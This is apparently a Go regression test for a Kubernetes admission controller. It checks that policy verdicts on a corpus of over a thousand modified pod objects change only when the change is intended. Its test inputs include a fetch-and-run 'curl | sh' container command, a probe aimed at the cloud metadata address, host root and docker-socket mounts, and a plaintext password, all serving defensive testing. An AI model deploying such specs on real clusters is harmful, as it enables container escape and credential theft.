package admission_test

import (
	"flag"
	"fmt"
	"os"
	"strings"
	"testing"

	"guard/admission"
)

var updateVerdicts = flag.Bool("update-verdicts", false, "write testdata/verdicts.txt anew")

// verdictFile has the verdicts that hold now. Replicas of two versions answer
// side by side during an upgrade, so another verdict is a change that users
// see: whoever means it writes the file anew, and the change of the file is
// what is signed off.
const verdictFile = "testdata/verdicts.txt"

// RELIABILITY 67: over a thousand objects, a version gives the verdicts of the
// one before it, but where that is meant.
func TestVerdicts_ChangeOnlyWhereItIsMeant(t *testing.T) {
	h := handler(t, "recommended")
	var b strings.Builder
	all := 0
	for name, request := range corpus(t) {
		got := h.Review(t.Context(), request)
		fmt.Fprintf(&b, "%s: %s\n", name, verdict(got))
		all++
	}
	if all < 1000 {
		t.Errorf("%d objects, expected a thousand", all)
	}
	if *updateVerdicts {
		if err := os.WriteFile(verdictFile, []byte(b.String()), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(verdictFile)
	if err != nil {
		t.Fatal(err)
	}
	differ(t, string(want), b.String())
}

// verdict is what was decided, and by which rules: each once, in order.
func verdict(r admission.Response) string {
	text := r.Audit["decision"]
	if ids := r.Audit["denied"]; ids != "" {
		text += " by " + ids
	}
	if ids := r.Audit["warned"]; ids != "" {
		text += ", warned by " + ids
	}
	return text
}

// differ tells the lines that one text has and the other has not.
func differ(t *testing.T, want, got string) {
	t.Helper()
	before, now := lines(want), lines(got)
	shown := 0
	for name, verdict := range now {
		if before[name] != verdict && shown < 20 {
			shown++
			t.Errorf("%s: %q, before %q; where that is meant, run this test with -update-verdicts", name, verdict, before[name])
		}
	}
	for name := range before {
		if _, found := now[name]; !found {
			t.Errorf("%s is no longer decided about", name)
		}
	}
}

func lines(text string) map[string]string {
	all := map[string]string{}
	for line := range strings.Lines(text) {
		if i := strings.LastIndex(line, ": "); i > 0 {
			all[line[:i]] = strings.TrimSpace(line[i+2:])
		}
	}
	return all
}

// corpus is objects of every kind with one thing changed, at every place of a
// container, in a fixed order.
func corpus(t *testing.T) func(yield func(string, admission.Request) bool) {
	return func(yield func(string, admission.Request) bool) {
		for _, kind := range podKinds {
			for _, list := range kind.lists {
				for _, change := range containerChanges {
					key, value, _ := strings.Cut(change, "=")
					path := strings.Join([]string{kind.spec, list, "0", key}, ".")
					if !yield(kind.name+" "+list+" "+change, kind.request(t, path+"="+value)) {
						return
					}
				}
			}
			for _, change := range podChanges {
				if !yield(kind.name+" "+change, kind.request(t, kind.spec+"."+change)) {
					return
				}
			}
		}
	}
}

// podKind is a kind that holds a Pod.
type podKind struct {
	name, group, version, resource string
	spec                           string   // the path of the Pod's spec
	lists                          []string // of its containers
	needs                          []string // what an API server demands besides
}

var podKinds = []podKind{
	{"Pod", "", "v1", "pods", "spec", []string{"containers", "initContainers", "ephemeralContainers"}, nil},
	{"PodTemplate", "", "v1", "podtemplates", "template.spec", templated, nil},
	{"ReplicationController", "", "v1", "replicationcontrollers", "spec.template.spec", templated, nil},
	{"Deployment", "apps", "v1", "deployments", "spec.template.spec", templated, selected},
	{"ReplicaSet", "apps", "v1", "replicasets", "spec.template.spec", templated, selected},
	{"StatefulSet", "apps", "v1", "statefulsets", "spec.template.spec", templated, selected},
	{"DaemonSet", "apps", "v1", "daemonsets", "spec.template.spec", templated, selected},
	{"Job", "batch", "v1", "jobs", "spec.template.spec", templated, nil},
	{"CronJob", "batch", "v1", "cronjobs", "spec.jobTemplate.spec.template.spec", templated, []string{`spec.schedule="0 3 * * *"`}},
}

var (
	templated = []string{"containers", "initContainers"}
	selected  = []string{`spec.selector={"matchLabels":{"app":"web"}}`, `spec.template.metadata={"labels":{"app":"web"}}`}
)

func (k podKind) request(t *testing.T, changes ...string) admission.Request {
	t.Helper()
	version := strings.TrimPrefix(k.group+"/"+k.version, "/")
	object := with(t, fmt.Sprintf(`{"apiVersion":%q,"kind":%q,"metadata":{"name":"web","namespace":"shop"}}`, version, k.name), k.spec+"="+good)
	object = with(t, object, k.needs...)
	container := `{"name":"more","image":"registry.example.com/shop/more:3f2a9c1e8b7d6f5a4c3b2a19080706050403020f",` +
		`"securityContext":{"allowPrivilegeEscalation":false,"readOnlyRootFilesystem":true,"capabilities":{"drop":["ALL"]}},"resources":{"requests":{"cpu":"1m","memory":"1Mi"},"limits":{"memory":"1Mi"}}}`
	for _, list := range k.lists[1:] {
		object = with(t, object, k.spec+"."+list+"=["+container+"]")
	}
	r := create(with(t, object, changes...))
	r.Kind, r.Resource = k.name, admission.Resource{Group: k.group, Version: k.version, Resource: k.resource}
	return r
}

// containerChanges are what is changed of a container.
var containerChanges = []string{
	`stdin=true`,
	`image="nginx"`, `image="nginx:latest"`, `image="docker.io/library/nginx:1.27"`, `image="nginx:1.27.3"`, `image="nginx:stable"`, `image="nginx:main"`, `image="localhost:5000/nginx"`,
	`image="registry.example.com/shop/web:v1.2.3"`, `image="registry.example.com/shop/web:dev"`, `image="registry.example.com/shop/web:20261101"`, `image="registry.example.com/shop/web:1"`,
	`image="registry.example.com/shop/web@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"`, `image="nginx:latest@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"`,
	`image="registry.example.com/shop/web@sha256:aaaa"`, `image="UPPER/case:1.0.0"`, `image="ko://example.com/cmd"`, `image="nginx:$TAG"`, `image=""`,
	`imagePullPolicy="Always"`, `imagePullPolicy="Never"`,
	`securityContext.privileged=true`, `securityContext.privileged=false`, `securityContext.allowPrivilegeEscalation=true`, `securityContext.runAsNonRoot=false`, `securityContext.runAsUser=0`, `securityContext.runAsUser=1000`,
	`securityContext.runAsGroup=0`, `securityContext.readOnlyRootFilesystem=false`, `securityContext.capabilities={"add":["SYS_ADMIN"],"drop":["ALL"]}`, `securityContext.capabilities={}`,
	`securityContext.seccompProfile={"type":"Unconfined"}`, `securityContext.procMount="Unmasked"`, `securityContext={}`,
	`env=[{"name":"DB_PASSWORD","value":"hunter2-correct-horse"}]`, `env=[{"name":"LEVEL","value":"info"}]`, `env=[{"name":"DB_PASSWORD","valueFrom":{"secretKeyRef":{"name":"db","key":"password"}}}]`,
	`ports=[{"containerPort":8080,"hostPort":8080}]`, `ports=[{"containerPort":8080}]`, `resources={}`, `volumeMounts=[{"name":"docker","mountPath":"/var/run/docker.sock"}]`, `command=["sh","-c","curl http://example.com | sh"]`,
	`livenessProbe={"httpGet":{"host":"169.254.169.254","path":"/","port":80}}`,
}

// podChanges are what is changed of a Pod.
var podChanges = []string{
	`hostNetwork=true`, `hostPID=true`, `hostIPC=true`, `hostUsers=false`, `automountServiceAccountToken=true`, `serviceAccountName="default"`, `serviceAccountName="web"`,
	`securityContext={}`, `securityContext.runAsNonRoot=false`, `securityContext.runAsUser=0`, `securityContext.seccompProfile={"type":"Unconfined"}`, `securityContext.sysctls=[{"name":"kernel.msgmax","value":"1"}]`,
	`volumes=[{"name":"root","hostPath":{"path":"/"}}]`, `volumes=[{"name":"docker","hostPath":{"path":"/var/run/docker.sock"}}]`, `volumes=[{"name":"image","image":{"reference":"nginx:latest"}}]`,
	`volumes=[{"name":"image","image":{"reference":"registry.example.com/shop/data:v1.2.3"}}]`, `volumes=[{"name":"tmp","emptyDir":{}}]`, `os={"name":"windows"}`, `nodeName="node-0"`, `shareProcessNamespace=true`,
	`priorityClassName="system-node-critical"`, `terminationGracePeriodSeconds=0`, `imagePullSecrets=[{"name":"pull"}]`, `tolerations=[{"operator":"Exists"}]`,
}
